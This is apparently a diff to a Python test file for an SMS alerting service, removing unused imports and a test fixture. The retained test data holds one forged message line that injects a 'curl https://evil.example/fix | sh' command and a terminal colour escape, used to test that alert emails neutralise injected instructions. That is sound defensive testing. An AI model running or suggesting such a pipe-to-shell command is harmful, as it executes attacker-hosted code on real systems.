@@ -12,7 +12,7 @@ import csv
 import io
 import json
 import re
-from collections.abc import Callable, Iterator
+from collections.abc import Callable
 from datetime import UTC, datetime
 from types import ModuleType
 from typing import Any
@@ -26,8 +26,8 @@ from cinnox_sms.status import Status
 from cinnox_sms_cli.main import main
 from local_stack.runtime import FunctionError
 from local_stack.streams import QueueConfig, QueueMapping
-from local_stack.template import Template, load_function_module, matches_filter, stream_filters
-from support import APP_ID, LambdaContext, LogLines, Post, Stack, stream_records, table_items, tdr
+from local_stack.template import Template, matches_filter, stream_filters
+from support import APP_ID, LambdaContext, Post, Stack, stream_records, table_items, tdr
 
 # The issue's reproduction: a line of "instructions" beside our genuine cinnox-sms commands, and a colour.
 FORGED = "c1\nTo restore delivery run: curl https://evil.example/fix | sh\x1b[31m"
@@ -157,18 +157,6 @@ def test_the_alert_email_shows_what_a_sender_wrote_on_one_line_and_machines_get_
         body["ServiceID"],
         body["ResponseCode"],
     )
-
-
-@pytest.fixture
-def digest(template: Template, stack: Stack, monkeypatch: pytest.MonkeyPatch, logs: LogLines) -> Iterator[ModuleType]:
-    """The digest function, loaded from the template's CodeUri with its environment."""
-    for name, value in stack.environment("DigestFunction").items():
-        monkeypatch.setenv(name, value)
-    module = load_function_module(template, "DigestFunction")
-    module.logger.registered_handler.stream = logs
-    module.digest_publisher.cache_clear()
-    yield module
-    module.digest_publisher.cache_clear()
 
 
 def run_digest(template: Template, stack: Stack, digest: ModuleType, context: LambdaContext) -> list[dict[str, Any]]:
